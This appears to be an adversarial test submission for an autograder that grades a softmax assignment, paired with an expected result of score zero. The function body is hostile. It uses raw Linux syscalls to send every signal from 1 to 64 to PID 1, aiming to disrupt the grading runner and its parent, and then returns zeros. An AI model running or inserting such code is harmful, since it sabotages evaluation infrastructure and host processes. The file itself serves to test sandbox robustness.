# assignment: softmax
# expect: score=0 code=wrong-values
# tries: queues every signal for the runner and its parent, by every call there is
import contextlib
import ctypes
import os
import signal

import numpy as np


def softmax(x, axis=-1):
    libc = ctypes.CDLL(None)
    info = (ctypes.c_int * 32)(0, 0, -1)
    with contextlib.suppress(OSError):
        handle = os.pidfd_open(1)
        for number in range(1, 65):
            info[0] = number
            libc.syscall(424, handle, number, None, 0)
            libc.syscall(129, 1, number, ctypes.byref(info))
            libc.syscall(297, 1, 1, number, ctypes.byref(info))
            libc.syscall(234, 1, 1, number)
    return np.zeros_like(x)
